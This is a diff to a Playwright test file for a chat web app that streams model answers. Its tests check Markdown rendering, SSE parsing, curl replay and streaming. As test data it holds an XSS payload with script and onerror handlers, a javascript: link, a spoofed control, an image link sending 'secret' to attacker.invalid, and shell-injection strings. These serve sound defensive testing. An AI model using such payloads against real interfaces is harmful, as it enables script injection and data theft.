@@ -13,7 +13,7 @@ import httpx
 import pytest
 from playwright.sync_api import Page, expect
 
-from tests.conftest import ServerFactory, offline_settings, upstream_settings
+from tests.conftest import FAILED, ServerFactory, offline_settings, upstream_settings
 from tests.support.browser import chromium, screenshot_path
 from tests.support.mock_upstream import MockUpstream, Script
 from tests.support.server import LiveServer
@@ -27,8 +27,9 @@ MARKDOWN = [
     "def stream(chain):\n",
     "    return chain.astream({})\n",
     "```\n\n",
-    '<img src="x" onerror="window.pwned = 1"><script>window.pwned = 2</script>',
-    "[click](javascript:window.pwned=3)\n",
+    '<img src="x" onerror="window.pwned = 1"><script>window.pwned = 2</script>\n',
+    '<span id="send">fake</span> [click](javascript:window.pwned=3) ',
+    "![chat log](https://attacker.invalid/?q=secret)\n",
 ]
 
 
@@ -39,8 +40,9 @@ def problems() -> list[str]:
 
 
 @pytest.fixture
-def page(tmp_path: Path, problems: list[str]) -> Iterator[Page]:
-    """A fresh Chromium tab; the test fails if the page threw or logged an error."""
+def page(request: pytest.FixtureRequest, tmp_path: Path, problems: list[str]) -> Iterator[Page]:
+    """A fresh Chromium tab; the test fails if the page threw or logged an error, and a failed
+    test leaves a screenshot of where the page was in `test-artifacts/`."""
     with chromium(tmp_path / "profile") as context:
         tab = context.new_page()
         tab.on("pageerror", lambda error: problems.append(f"pageerror: {error}"))
@@ -51,6 +53,8 @@ def page(tmp_path: Path, problems: list[str]) -> Iterator[Page]:
             ),
         )
         yield tab
+        if request.node.stash.get(FAILED, False):
+            tab.screenshot(path=screenshot_path(f"FAILED-{request.node.name}"))
     assert problems == []
 
 
@@ -100,7 +104,7 @@ def test_text_grows_while_streaming_and_stop_cancels_the_run(
 
 
 def test_markdown_renders_with_highlighted_code_and_no_script_runs(
-    page: Page, problems: list[str], start_server: ServerFactory, upstream: MockUpstream
+    page: Page, start_server: ServerFactory, upstream: MockUpstream
 ) -> None:
     upstream.enqueue(Script(chunks=MARKDOWN, delay=0.02))
     server = start_server(upstream_settings(upstream))
@@ -114,11 +118,13 @@ def test_markdown_renders_with_highlighted_code_and_no_script_runs(
     expect(body.locator("h2")).to_be_visible()
     expect(body.locator("strong")).to_have_text("SSE")
     expect(body.locator("pre code.hljs .hljs-keyword").first).to_have_text("def")
-    assert body.locator("script, img[onerror], a[href^='javascript']").count() == 0
+    text = body.text_content() or ""
+    # Raw HTML is shown as text, never parsed, so it cannot run, load or pose as a control.
+    assert '<img src="x" onerror="window.pwned = 1"><script>' in text
+    assert body.locator("script, img, a[href^='javascript'], [id]").count() == 0
     assert page.evaluate("window.pwned") is None
-    assert "[image: ]" in (body.text_content() or "")  # not fetched from anywhere
-    # Chromium reports the handler it refused while DOMPurify parsed the text: expected.
-    problems[:] = [p for p in problems if "Content Security Policy" not in p]
+    assert page.locator("#send").text_content() == "Send"
+    assert "[image: chat log]" in text  # a Markdown image is not fetched from anywhere
     facts = page.locator(".answer .facts").text_content() or ""
     assert re.search(r"ttft \d+ ms · [\d.]+ tokens/s · usage \d+ in \+ \d+ out", facts), facts
     assert "gpt-4o" in facts
@@ -155,7 +161,7 @@ def test_a_form_chain_runs_with_its_knobs_and_the_curl_command_reproduces_it(
     page.locator(".pane select[data-key=prompt]").select_option("eli5")
     page.get_by_role("button", name="Run").click()
     expect(page.locator(".answer.done")).to_have_count(1)
-    answer = page.locator(".answer .markdown").text_content() or ""
+    answer = page.locator(".answer .markdown").inner_text()
     page.locator(".answer .curl summary").click()
     command = page.locator(".answer .curl pre").text_content() or ""
     page.screenshot(path=screenshot_path("page-form"))
@@ -183,7 +189,7 @@ def test_compare_streams_one_input_through_two_configurations_at_once(
     page.goto(server.url)
     page.get_by_role("button", name="Compare").click()
     page.locator("[data-pane=B] select[data-key=model]").select_option("gpt-4o")
-    page.locator("[data-pane=B] input[data-key=temperature]").fill("0.2")
+    page.locator("[data-pane=B] input[data-key=temperature]").fill("0.25")
     _send(page, "Same question")
     expect(page.locator(".answer.streaming .markdown", has_text="Streaming")).to_have_count(2)
     page.screenshot(path=screenshot_path("page-compare"))
@@ -192,7 +198,7 @@ def test_compare_streams_one_input_through_two_configurations_at_once(
 
     requests = [r for r in upstream.requests if r.path.endswith("/chat/completions")]
     assert sorted((r.json["model"], r.json["temperature"]) for r in requests) == [
-        ("gpt-4o", 0.2), ("gpt-4o-mini", 0.7),
+        ("gpt-4o", 0.25), ("gpt-4o-mini", 0.7),
     ]  # fmt: skip
     facts = page.locator(".answer .facts").all_text_contents()
     assert "gpt-4o-mini" in facts[0]
@@ -283,15 +289,166 @@ def test_the_event_reader_follows_the_sse_standard(page: Page, offline_server: L
             },
           });
           const seen = [];
-          for await (const event of readEvents(body)) seen.push([event.event, event.data]);
+          for await (const e of readEvents(body)) seen.push([e.event, e.data, e.id]);
           return seen;
         }""",
         [
-            "\ufeffevent: a\r",
+            "\ufeff\ufeffevent: a\r",
             "\ndata: 1\r\ndata:  2\r",
             "\r: keepalive\n\ndata:x\n",
-            "\nevent: b\ndata\n\nevent: c\n\ndata: é",
-            "\u00e8\n\n",
+            "\nevent: b\ndata\n\nevent: c\n\nid: 7\ndata: é",
+            "\u00e8\n\ndata: last\r\r",
         ],
     )
-    assert events == [["a", "1\n 2"], ["message", "x"], ["b", ""], ["message", "éè"]]
+    # The decoder drops one BOM; a second makes "\ufeffevent" an unknown field (ignored).
+    assert events == [
+        ["message", "1\n 2", None], ["message", "x", None], ["b", "", None],
+        ["message", "éè", "7"], ["message", "last", "7"],
+    ]  # fmt: skip
+
+
+def test_chunks_that_are_not_text_still_read_as_text_or_json(
+    page: Page, offline_server: LiveServer
+) -> None:
+    page.goto(offline_server.url)
+    pieces = page.evaluate(
+        """async () => {
+          const { textOf } = await import("./static/js/run.js");
+          return [
+            textOf("plain"),
+            textOf({ content: "message chunk" }),
+            textOf({ content: [{ type: "text", text: "a" }, "b", { type: "image_url" }] }),
+            textOf({ answer: 42 }),
+          ];
+        }"""
+    )
+    assert pieces[:3] == ["plain", "message chunk", "ab"]
+    assert '```json\n{\n  "answer": 42\n}\n```' in pieces[3]
+
+
+def test_the_curl_command_reproduces_any_message_byte_for_byte(
+    page: Page, start_server: ServerFactory, upstream: MockUpstream, tmp_path: Path
+) -> None:
+    """Quotes, newlines, `$(...)`, backticks and backslashes survive the shell unchanged."""
+    bash, curl = shutil.which("bash"), shutil.which("curl")
+    if bash is None or curl is None:
+        pytest.skip("bash or curl is not installed: the command cannot be replayed")
+    upstream.enqueue(Script(), Script())
+    server = start_server(upstream_settings(upstream))
+    message = 'it\'s "quoted" $(touch pwned) `touch pwned2` ${HOME} \\n\nsecond line\t!'
+    page.goto(server.url)
+    page.locator("#message").fill(message)
+    page.locator("#message").press("Enter")
+    expect(page.locator(".answer.done")).to_have_count(1)
+    command = page.locator(".answer .curl pre").text_content() or ""
+    subprocess.run([bash, "-c", command], capture_output=True, timeout=30, check=True, cwd=tmp_path)
+
+    browser_sent, curl_sent = (r.json["messages"][-1] for r in upstream.requests)
+    assert browser_sent == curl_sent == {"role": "user", "content": message}
+    assert not (tmp_path / "pwned").exists()
+    assert not (tmp_path / "pwned2").exists()
+
+
+def test_entering_the_key_again_mid_conversation_keeps_it(
+    page: Page, problems: list[str], start_server: ServerFactory
+) -> None:
+    server = start_server(offline_settings(api_keys=KEY))
+    page.goto(server.url)
+    page.get_by_label("API key").fill(KEY)
+    page.get_by_role("button", name="Use key").click()
+    _send(page, "first")
+    expect(page.locator(".answer.done")).to_have_count(1)
+    page.evaluate("sessionStorage.setItem('chainserve.apiKey', 'sk-revoked-0000000000')")
+    _send(page, "second")
+    expect(page.locator("#key-reason")).to_contain_text("not valid")
+    expect(page.locator("#message")).to_have_value("second")  # back in the box to resend
+    page.get_by_label("API key").fill(KEY)
+    page.get_by_role("button", name="Use key").click()
+    expect(page.locator("#key-panel")).to_be_hidden()
+    page.locator("#message").press("Enter")
+    expect(page.locator(".answer.done")).to_have_count(2)
+
+    answers = page.locator(".answer.done .markdown").all_inner_texts()
+    assert "This conversation has 3 messages" in answers[1]  # first, its answer, second
+    assert page.locator(".sent").count() == 3  # the refused one stays, greyed out
+    _expect_refusals(problems, 401)
+
+
+def test_escape_stops_a_run_that_has_not_started_streaming(
+    page: Page, start_server: ServerFactory, upstream: MockUpstream
+) -> None:
+    """Before the first token the server has sent nothing yet (so it can still answer with a
+    status); Escape must still reach it as a hang-up that stops the upstream call."""
+    upstream.enqueue(Script(hold_after=0))
+    server = start_server(upstream_settings(upstream))
+    page.goto(server.url)
+    _send(page, "wait for it")
+    upstream.wait_for_requests(1)
+    page.keyboard.press("Escape")
+    expect(page.locator(".answer.stopped")).to_have_count(1)
+
+    upstream.wait_for_disconnect()
+    assert not upstream.last_request.completed
+    facts = page.locator(".answer .facts").text_content() or ""
+    assert "stopped after 0 chunks" in facts
+    expect(page.get_by_role("button", name="Send")).to_be_enabled()
+
+
+def test_a_run_failing_mid_stream_keeps_its_text_and_says_why(
+    page: Page, start_server: ServerFactory, upstream: MockUpstream
+) -> None:
+    upstream.enqueue(Script(chunks=["Partial", " answer", " lost"], drop_after=2))
+    server = start_server(upstream_settings(upstream))
+    page.goto(server.url)
+    _send(page, "go")
+    expect(page.locator(".answer.failed")).to_have_count(1)
+
+    expect(page.locator(".answer .markdown")).to_have_text("Partial answer")
+    expect(page.locator(".answer .problem")).to_contain_text("Run failed · ")
+    expect(page.get_by_role("button", name="Send")).to_be_enabled()
+
+
+def test_finished_blocks_are_drawn_once_while_the_answer_streams(
+    page: Page, start_server: ServerFactory, upstream: MockUpstream
+) -> None:
+    """Only the block being written is redrawn, so a long answer costs no more per frame than
+    a short one: finished blocks are never removed and redrawn while it streams."""
+    paragraphs = [f"Paragraph {i}.\n\n" for i in range(30)]
+    upstream.enqueue(Script(chunks=paragraphs, hold_after=20))
+    server = start_server(upstream_settings(upstream))
+    page.goto(server.url)
+    _send(page, "many paragraphs")
+    done = page.locator(".answer.streaming .blocks:not(.live)")
+    expect(done).to_contain_text("Paragraph 18.")
+    live = page.locator(".answer.streaming .live").text_content() or ""
+    page.evaluate(
+        """() => {
+          window.removed = 0;
+          new MutationObserver((changes) => {
+            for (const change of changes) window.removed += change.removedNodes.length;
+          }).observe(document.querySelector(".answer .blocks"), { childList: true, subtree: true });
+        }"""
+    )
+    upstream.release()
+    expect(page.locator(".answer.done")).to_have_count(1)
+
+    assert "Paragraph 0." not in live
+    assert page.evaluate("window.removed") == 0
+    rendered = page.locator(".answer .markdown p").all_text_contents()
+    assert rendered == [f"Paragraph {i}." for i in range(30)]
+
+
+def test_compare_gives_the_second_pane_no_thread_of_its_own(
+    page: Page, offline_server: LiveServer
+) -> None:
+    """Two panes writing to one server-side thread would mix their conversations."""
+    thread = httpx.post(f"{offline_server.url}/threads").json()["thread_id"]
+    page.goto(offline_server.url)
+    page.locator("[data-pane=A] input[data-key=thread_id]").fill(thread)
+    page.get_by_role("button", name="Compare").click()
+    expect(page.locator("[data-pane=B] input[data-key=thread_id]")).to_have_value("")
+    _send(page, "one")
+    expect(page.locator(".answer.done")).to_have_count(2)
+
+    messages = httpx.get(f"{offline_server.url}/threads/{thread}").json()["messages"]
+    assert [m["content"] for m in messages if m["role"] in ("user", "human")] == ["one"]
